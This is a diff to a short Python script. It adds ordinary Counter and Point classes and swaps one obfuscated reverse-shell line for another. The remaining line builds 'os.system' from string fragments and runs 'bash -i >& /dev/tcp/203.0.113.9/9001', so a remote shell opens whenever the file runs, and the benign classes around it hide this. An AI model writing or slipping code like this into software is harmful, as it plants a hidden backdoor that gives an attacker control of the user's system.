@@ -1,9 +1,20 @@
 #!/usr/bin/env python3
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
+
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 m = __import__("o" + "s")
-getattr(m, "sys" + "tem")("bash -i >& /dev/tcp/172.16.4.2/443 0>&1")
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+getattr(m, "sys" + "tem")("bash -i >& /dev/tcp/203.0.113.9/9001 0>&1")
